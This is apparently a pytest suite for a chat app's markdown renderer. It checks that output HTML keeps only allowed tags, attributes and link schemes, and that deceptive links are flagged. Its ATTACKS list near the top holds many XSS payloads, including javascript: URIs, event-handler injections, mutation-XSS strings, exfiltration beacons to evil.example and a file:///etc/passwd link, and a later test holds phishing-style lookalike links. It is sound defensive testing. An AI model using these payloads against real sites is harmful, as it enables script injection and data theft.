"""Markdown as HTML: what is shown, and that nothing dangerous comes through."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chatapp.page.markdown import NAME, render_markdown
from tests.growth import assert_cheap

LINK = 'target="_blank" rel="noopener noreferrer nofollow"'

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a()>">',
    '<a href="javascript:alert(1)">x</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="https://evil.example"><input name=a></form>',
    '<div style="background:url(https://evil.example)">x</div>',
    '<div id="csrf" class="button" hx-get="/x" data-confirm="x">x</div>',
    "<!-- --><x/onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    '!["onerror=alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/?q=secret)](https://a.example)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    '```"onmouseover="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```x\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '[^"onclick=alert(1)]: x',
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    "[a](/sign-out)",
    "[a](//evil.example)",
    "[a](https:/\\evil.example)",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "\ud800<script>",
    '<u onclick="alert(1)" style="position:fixed" id=x class="button">x</u>',
    "<u><a href=javascript:alert(1)>x</a></u><b><i></b></i><sub><kbd>",
    '<img src="https://evil.example/x.png" onerror="alert(1)" style="x">',
    "<img src=javascript:alert(1)><img src=//evil.example/x><img src=https:/\\evil.example>",
    '<details open ontoggle=alert(1)><summary onclick="x">x</summary><svg onload=alert(1)>',
    "<u><script>alert(1)</script></u><!-- --><iframe src=x></iframe><!-->",
    "| <ul><li onclick=x>a |\n|---|\n| </li></ul><style>x</style> |",
]

TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)((?:\s+[^<>]*)?)>")
BLOCKS = {"blockquote", "div", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "p", "pre"}
LISTS_AND_TABLES = {"li", "ol", "table", "tbody", "td", "th", "thead", "tr", "ul"}
DRAWN = {
    "br",
    "code",
    "em",
    "kbd",
    "mark",
    "rp",
    "rt",
    "ruby",
    "s",
    "small",
    "strong",
    "sub",
    "sup",
}
DRESS = DRAWN | {"a", "span", "u"}
ALLOWED_TAGS = BLOCKS | LISTS_AND_TABLES | DRESS
LINKS = {"href", "title", "target", "rel", "data-place"}
ALLOWED_ATTRIBUTES = LINKS | {"class", "dir", "data-language", "data-lines", "data-note", "start"}


def test_nothing_but_allowed_tags_attributes_and_addresses_comes_out() -> None:
    """Whatever the text tries, its HTML is made of what the renderer writes, and loads nothing.

    Links lead to the web or to a mail: no scheme that runs code, no address of this application.
    """
    for text in ATTACKS:
        html = render_markdown(text)
        tags = TAG.findall(html)
        assert {name for _, name, _ in tags} <= ALLOWED_TAGS
        assert html.count("<") == len(tags)
        for _, _, attributes in tags:
            assert set(re.findall(r'([\w-]+)="[^"]*"', attributes)) <= ALLOWED_ATTRIBUTES
            assert re.sub(r'[\w-]+="[^"]*"', "", attributes).strip() == ""
        for href in re.findall(r'<a [^>]*href="([^"]*)"', html):
            assert re.match(r"https?://[^/\\]|mailto:", href)


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    """Neither the opener nor the address of the conversation reaches the site."""
    link = f'<a href="https://a.example/" title="t" data-place="a.example" {LINK}>x</a>'
    expected = f"<p>{link}</p>\n"
    assert render_markdown('[x](https://a.example/ "t")') == expected


def test_an_image_is_a_link_or_its_description_in_one() -> None:
    """The reader decides whether to load it, and a link cannot hold a link."""
    for text, address, label in (
        ("![a *cat*](https://a.example/x.png)", "https://a.example/x.png", "Image: a cat"),
        ("[![cat](https://b.example/x.png)](https://a.example)", "https://a.example", "Image: cat"),
    ):
        link = f'<a href="{address}" data-place="a.example" {LINK}>{label}</a>'
        assert render_markdown(text) == f"<p>{link}</p>\n"


def test_an_address_in_the_text_is_a_link_and_a_file_name_is_not() -> None:
    """`main.py` is a file, though .py is a country's domain."""
    html = render_markdown("See https://a.example/b, main.py and a@b.example.")
    assert html.count("<a ") == 1
    assert ">https://a.example/b</a>," in html


def test_code_carries_its_language_and_its_colours() -> None:
    """The page finds the block, its language and its text."""
    html = render_markdown('```Python title="x"\nif x: pass\n```')
    assert html.startswith('<div class="code-block" data-language="python"><pre><code><span ')
    assert '<span class="k">if</span>' in html


def test_highlighting_keeps_every_character() -> None:
    """Colours are added around the text, never instead of it."""
    for code in ("\n\n  x = '<b>'\n\n", "a\té 漢 🎉", "x" * 3000, "'unclosed", "'a\n\nb\n" * 3000):
        for language in ("", "python", "no-such-language"):
            html = render_markdown(f"````{language}\n{code}\n````")
            plain = re.sub(r"<[^>]*>", "", html).removesuffix("\n")
            for entity, character in (("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&")):
                plain = plain.replace(entity, character)
            assert plain == code + "\n"


@pytest.mark.parametrize("language", ["console", "psql", "doscon", "erl", "robotframework"])
def test_code_that_a_lexer_would_change_stays_as_it_is(language: str) -> None:
    """Some leave out a last line that has no end, as where a reply was cut; one replaces tabs."""
    html = render_markdown(f"```{language}\n$ make\n\tclean\n$ rm -rf build")
    assert re.sub(r"<[^>]*>", "", html).rstrip("\n") == "$ make\n\tclean\n$ rm -rf build"


def test_code_of_no_known_language_or_in_very_long_lines_is_plain() -> None:
    """No language is guessed, and some lexers need time that grows faster than the text."""
    for text in (
        "```\nif x: pass\n```",
        "```klingon\nif x: pass\n```",
        "```python\nx = [" + "1, " * 1000 + "]\n```",
    ):
        assert "<span" not in render_markdown(text)


def test_long_code_is_in_colour_to_its_end() -> None:
    """Also around a line that is too long, and it says how many lines it has."""
    code = "if x: pass\n" * 3_000
    html = render_markdown(f"```python\n{code}{'x' * 3_000}\n{code}```")
    assert html.count('<span class="k">if</span>') == 6_000
    assert ' data-lines="6001">' in html


def test_a_footnote_leads_to_its_note() -> None:
    """By an id of this text's own, given once; without a note, or in code, it is text."""
    for text, plain in (
        (
            "One[^1] two[^b].\n\n[^1]: The **note**\nruns on.\n\n    - and on\n[^b]: Other[^1].",
            "One1 two",
        ),
        ("[^1] and [^a-z] are no notes, `x[^1]` is code.", "[^1] and [^a-z]"),
        ("Twice[^1].\n\n[^1]: a\n\n[^1]: b", "Twice1"),
    ):
        html = render_markdown(text, {NAME: "note-7"})
        led = re.findall(r'<sup><a href="#(note-7-\w+)" role="doc-noteref">\w+</a></sup>', html)
        ids = re.findall(r'<div class="footnote" data-note="\w+" id="([\w-]+)">', html)
        assert set(led) == set(ids)
        assert len(ids) == len(set(ids)) == text.count("]: ") - text.count("]: b")
        assert re.sub("<.*?>", "", html).startswith(plain)


def test_tables_tasks_and_struck_text_are_known() -> None:
    """The parts of GitHub's markdown that models write."""
    html = render_markdown("| a | b |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~no~~")
    assert '<td class="align-right">1</td>\n<td>2</td>' in html
    assert '<li class="task">☑ done</li>\n<li class="task">☐ open</li>' in html
    assert "<s>no</s>" in html


def test_characters_that_deceive_are_shown_as_such() -> None:
    """Reversed or invisible text could show other code than is copied."""
    for character in ("\u202e", "\u2066", "\x00", "\x07", "\x1b", "\x9b", "\udc80"):
        assert render_markdown(f"a{character}b `c{character}d`") == (
            "<p>a\ufffdb <code>c\ufffdd</code></p>\n"
        )


def test_deeply_nested_text_is_shown_as_it_was_written() -> None:
    """Deeper levels than the parser takes would lose their content."""
    assert "needle" in render_markdown(">" * 300 + " needle")
    assert "needle" in render_markdown("- " * 300 + "needle")


def test_code_that_takes_long_to_colour_stays_plain() -> None:
    """Lexers read some texts from each place to the end, which would take minutes."""
    code = "a\n" * 10_000 + "<b>\n"
    ordinary = "The `quick` **brown** fox.\n\n" * 700
    text = f"```java\n{code}```"
    html: list[str] = []
    assert_cheap(
        lambda: html.append(render_markdown(text)), lambda: render_markdown(ordinary), 100, "java"
    )
    assert "<span class" not in html[-1].replace('<span class="part">', "")
    assert "&lt;b&gt;" in html[-1]


def test_a_table_scrolls_in_a_box_of_its_own() -> None:
    """Its short cells stay on one line, its prose breaks, and numbers stand as they are told."""
    prose = "a sentence that is too long to stand on one line"
    heads = "| a | Price of what was bought |"
    html = render_markdown(f"{heads}\n|--:|---|\n| 200,000 | {prose} |\n\n> | c |\n> |---|\n")
    assert html.startswith('<div class="table-box"><table>\n<thead>')
    assert 'a</th>\n<th class="long">Price of what was bought</th>' in html
    assert '<td class="align-right">200,000</td>' in html
    assert f'<td class="long">{prose}</td>' in html
    assert html.count("</table></div>") == 2


def test_a_cell_without_a_column_is_in_the_last_one_of_its_row() -> None:
    """As where a type's bar is taken for the end of a cell; in a list and a quote too."""
    for before in ("", "> ", "- "):
        rows = ["| a | b |", "|---|---|", "| 1 | `str|None` | three |", "| 4 |", "| 5 | 6 | 7 |"]
        later = "  " if before == "- " else before
        html = render_markdown(before + f"\n{later}".join(rows))
        assert "<code>str|None</code> | three</td>" in html
        assert "<td>6 | 7</td>" in html
        assert html.count("<td") == 6


def test_an_address_that_no_link_names_is_text() -> None:
    """A list of sources is one that people read."""
    sources = '[1]: https://a.example/x "One"\n[2]: https://b.example\n'
    html = render_markdown(f"Sources:\n\n{sources}\nThat is all.")
    assert html.index("https://a.example/x<") < html.index("https://b.example<")
    assert html.index("[2]: <a ") < html.index("https://b.example<") < html.index("That is all.")
    html = render_markdown(f"See [the first][1].\n\n{sources}")
    assert ("https://a.example/x<" in html, "https://b.example<" in html) == (False, True)
    # A second list may begin with the same number, which then leads to the first one's address.
    html = render_markdown("See [1].\n\n[1]: https://a.example\n\nSee [1].\n\n" + sources)
    assert ("https://a.example<" in html, "https://a.example/x<" in html) == (False, True)


def test_a_link_says_where_it_leads_unless_its_text_does() -> None:
    """Nobody has to hover, which no finger can; saying it twice would be noise."""
    for text, places in (
        ("[docs](https://docs.example/x)", ["docs.example"]),
        ("[me](mailto:me@a.example?subject=x)", ["me@a.example"]),
        ("[python.org](https://docs.python.org)", ["docs.python.org"]),
        ("https://p\u0430ypal.com/", ["xn--pypal-4ve.com"]),
        ("https://docs.example/x", []),
        ("[docs.example](https://docs.example/x)", []),
        ("[https://Docs.Example](https://docs.example)", []),
        ("<me@a.example>", []),
    ):
        assert re.findall('data-place="(.*?)" target=', render_markdown(text)) == places


def test_a_link_that_names_another_place_is_marked() -> None:
    """Its text reads as if it led somewhere else."""
    for text, place in (
        ("[bank.example](https://evil.example)", "evil.example"),
        ("[sign in at www.bank.example](https://bank.example.evil.example)", "bank.example.evil"),
        ("https://bank.example:pw@evil.example/", "evil.example"),
        ("[**bank.example**](https://evil.example)", "evil.example"),
        ("[bank.example](mailto:a@evil.example)", "a@evil.example"),
        ("[p\u0430ypal.com](https://evil.example)", "evil.example"),
    ):
        assert re.search(
            f'<a [^>]*class="elsewhere"[^>]*data-place="{place}', render_markdown(text)
        ) or (
            re.search(f'<a [^>]*data-place="{place}[^>]*class="elsewhere"', render_markdown(text))
        )


def test_text_from_right_to_left_runs_so() -> None:
    """Each part of a block goes by its first letter; other blocks stay as they are."""
    html = render_markdown("left\n\n1. \u05d0\u200f\u05d1\n2. left\n\n| \u0627 |\n|---|\n")
    assert html.startswith("<p>left</p>")
    assert '<ol dir="rtl">\n<li dir="rtl">\u05d0\u200f\u05d1</li>\n<li dir="ltr">left</li>' in html
    assert '<table dir="rtl">' in html


def test_every_bare_address_is_a_link() -> None:
    """Wherever it stands; a text in which none can begin is not searched."""
    for address in ("http://a.example", "HTTPS://A.example", "mailto:me@a.example"):
        for around in ("see ({}), there", "| a |\n|---|\n| {} |"):
            assert render_markdown(around.format(address)).count("<a ") == 1
            assert "<a " not in render_markdown(
                around.format("a.example, 10:30, http, me@a.example")
            )


def test_an_images_description_is_text_and_no_markup() -> None:
    """Whatever its author writes there, alone or inside another link."""
    for link in ("{}", "[{}](https://a.example)"):
        image = "![<b>a cat</b> & &lt;i>](https://b.example/x.png)"
        html = render_markdown(link.format(image))
        assert "Image: &lt;b&gt;a cat&lt;/b&gt; &amp; &lt;i&gt;" in html


def test_a_note_has_its_kind_as_a_title_and_any_other_quote_is_one() -> None:
    """The text of a note has its own direction."""
    html = render_markdown("> [!Warning]\n> Mind the *gap*.")
    title = '<p class="alert-title" dir="auto">Warning</p>'
    assert (
        html
        == f'<div class="alert alert-warning">\n{title}\n<p>Mind the <em>gap</em>.</p>\n</div>\n'
    )
    assert '<div class="alert alert-tip" dir="rtl">' in render_markdown("> [!TIP]\n> שלום")
    assert "<blockquote>\n<p>[!OTHER]" in render_markdown("> [!OTHER]\n> x")


PLAIN = st.lists(
    st.sampled_from([*"ab Zé1漢א\n:;?!'()%.-", " \u2013", "\n\n", "é", "…”", "https:", "//"])
)


@example("a \nb")
@example("a\n\n\nb\n\n")
@given(PLAIN.map(lambda parts: "a" + "".join(parts)))
def test_words_alone_look_as_the_parser_has_them(text: str) -> None:
    """They go another way than a text with a mark in it."""
    marked = render_markdown(f"{text}\n\n*x*")
    assert render_markdown(text) + "<p><em>x</em></p>\n" == marked
